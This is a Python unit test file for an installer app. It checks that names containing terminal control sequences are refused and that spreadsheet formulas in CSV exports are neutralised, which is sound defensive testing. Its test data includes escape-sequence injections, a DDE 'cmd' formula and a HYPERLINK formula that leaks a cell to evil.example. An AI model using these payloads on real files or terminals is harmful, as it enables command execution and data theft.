"""Names from prepared CSVs and installation files can neither drive a terminal nor a spreadsheet.

A server name such as ``ESC ] 0 ; X BEL ESC [ 2 J`` was accepted and printed raw; a company name
``=HYPERLINK(...)`` from a prepared CSV was exported as a live formula by the fleet view's
"Export CSV…". Names with control characters are refused where the plan is validated (so in
files, CSVs, the wizard and the command line alike); every cell the program writes to a CSV that
a spreadsheet would run is prefixed with ``'`` (OWASP's rule).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from installer_app.domain.batch import parse_batch
from installer_app.domain.plan_problems import PlanInvalid, parse_plan
from installer_app.domain.text import control_characters, escape_controls
from installer_app.services import fleet
from installer_app.services.batch import prepare_batch
from tests.unit.test_batch import HEADER
from tests.unit.test_batch import csv as csv_text
from tests.unit.test_plan import stock_data

TERMINAL_TRICKS = [
    "\x1b]0;X\x07\x1b[2J",  # retitle the window, clear the screen
    "Martin\rHacked",  # a carriage return overwrites what was printed
    "Martin\nOXO",
    "bell\x07",
    "csi\x9b2J",  # the one-byte CSI of some terminals
    "del\x7f",
    "evil\u202etxt.exe",  # right-to-left override
    "isolate\u2066x\u2069",
]


@pytest.mark.parametrize("name", TERMINAL_TRICKS)
@pytest.mark.parametrize(
    ("field", "where"),
    [
        ("server_name", ("server_name",)),
        ("company.name", ("company", "name")),
        ("company.id", ("company", "id")),
        ("site_id", ("site_id",)),
        ("numbering_rules.0.description", ("numbering_rules", 0, "description")),
    ],
)
def test_a_name_with_a_control_character_is_refused(
    name: str, field: str, where: tuple[str | int, ...]
) -> None:
    data = stock_data()
    data["numbering_rules"] = [{"regexp_match": "^0", "regexp_replace": "1", "description": ""}]
    target = data
    for key in where[:-1]:
        target = target[key]
    target[where[-1]] = name
    with pytest.raises(PlanInvalid) as refused:
        parse_plan(data)
    messages = [str(problem) for problem in refused.value.problems]
    assert any(m.startswith(f"{field}: ") and "control character" in m for m in messages), messages
    assert not any(char in "".join(messages) for char in "\x1b\x07\r\x9b\x7f\u202e\u2066")


def test_a_control_character_from_a_csv_names_its_row_and_column() -> None:
    batch = parse_batch(csv_text('c1,Martin,"\x1b]0;X\x07\x1b[2J",oxo-connect,btco,,,FR'))
    (problem,) = batch.problems
    assert (problem.row, problem.column) == (2, "server_name")
    assert "\\x1b \\x07" in problem.message


def test_ordinary_names_are_kept() -> None:
    for name in ("Boulangerie Martin", "Müller & Söhne", "Café ☕", "O'Brien\u00a0Ltd", "東京"):
        assert control_characters(name) == []
        data = stock_data(server_name=name, company={"id": "c1", "name": name})
        assert parse_plan(data).server_name == name


def test_escape_controls_keeps_line_feeds_and_tabs() -> None:
    assert escape_controls("a\tb\nc\x1b[2J\u202e") == "a\tb\nc\\x1b[2J\\u202e"


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+SUM(1)",
    "-2+3",
    "@SUM(1)",
]


def test_the_fleet_export_neutralises_formulas_from_a_prepared_csv(tmp_path: Path) -> None:
    rows = [
        f'c{n},"{name.replace(chr(34), chr(34) * 2)}",PBX {n},oxo-connect,btco,,,FR'
        for n, name in enumerate(FORMULAS)
    ]
    rows.append('c9,Plain,"=HYPERLINK(""http://x"",""y"")",oxo-connect,btco,,,FR')
    source = tmp_path / "batch.csv"
    source.write_text(csv_text(*rows, header=HEADER), encoding="utf-8")
    prepared = prepare_batch(source, tmp_path / "out")
    assert prepared.ok, prepared.problems
    entries = fleet.read_entries(sorted((tmp_path / "out").glob("*.json")))
    out = tmp_path / "fleet.csv"
    fleet.export_csv(out, entries)
    exported = list(csv.reader(io.StringIO(out.read_text("utf-8-sig"))))[1:]
    companies = sorted(row[1] for row in exported)
    assert companies == sorted(["Plain", *(f"'{name}" for name in FORMULAS)])
    assert '\'=HYPERLINK("http://x","y")' in [row[2] for row in exported]
    for row in exported:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@x", "\tx", "\rx"])
def test_every_risky_first_character_is_quoted(cell: str) -> None:
    assert fleet.spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["", "Martin", "ALE12-1234.5678.90", "2026-03-02T09:30:00+00:00"])
def test_ordinary_cells_are_kept(cell: str) -> None:
    assert fleet.spreadsheet_safe(cell) == cell
